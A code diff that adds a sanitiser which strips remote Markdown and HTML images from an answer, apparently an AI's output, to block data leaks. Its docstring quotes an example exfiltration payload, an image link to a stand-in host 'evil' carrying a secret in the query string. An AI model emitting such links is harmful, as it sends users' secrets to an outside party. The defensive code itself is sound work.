@@ -216,3 +216,29 @@ def truncate(text: str, limit: int) -> str:
     cut = len(text) - len(head) - len(tail)
     return f"{head}\n[... {cut:,} characters cut; print less, or store results in " \
            f"variables ...]\n{tail}"
+
+
+_REMOTE_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?((?:[a-zA-Z][\w+.-]*:)?//[^)\s>]*)>?[^)]*\)")
+_HTML_IMAGE = re.compile(r"<\s*img\b[^>]*>", re.I)
+
+
+def neutralise_answer(answer: str) -> tuple[str, int]:
+    """Remote images in an answer are an exfiltration channel (a viewer that renders
+    `![x](http://evil/?q=<secret>)` sends the secret by loading it): turn them into inert
+    text that still shows the address. Returns the text and how many were changed."""
+    count = 0
+
+    def image(match: re.Match[str]) -> str:
+        nonlocal count
+        count += 1
+        alt = match.group(1).strip()
+        return f"{alt + ' ' if alt else ''}[remote image removed: {match.group(2)}]"
+
+    def html(match: re.Match[str]) -> str:
+        nonlocal count
+        count += 1
+        return "[remote image removed]"
+
+    answer = _REMOTE_IMAGE.sub(image, answer)
+    answer = _HTML_IMAGE.sub(html, answer)
+    return answer, count
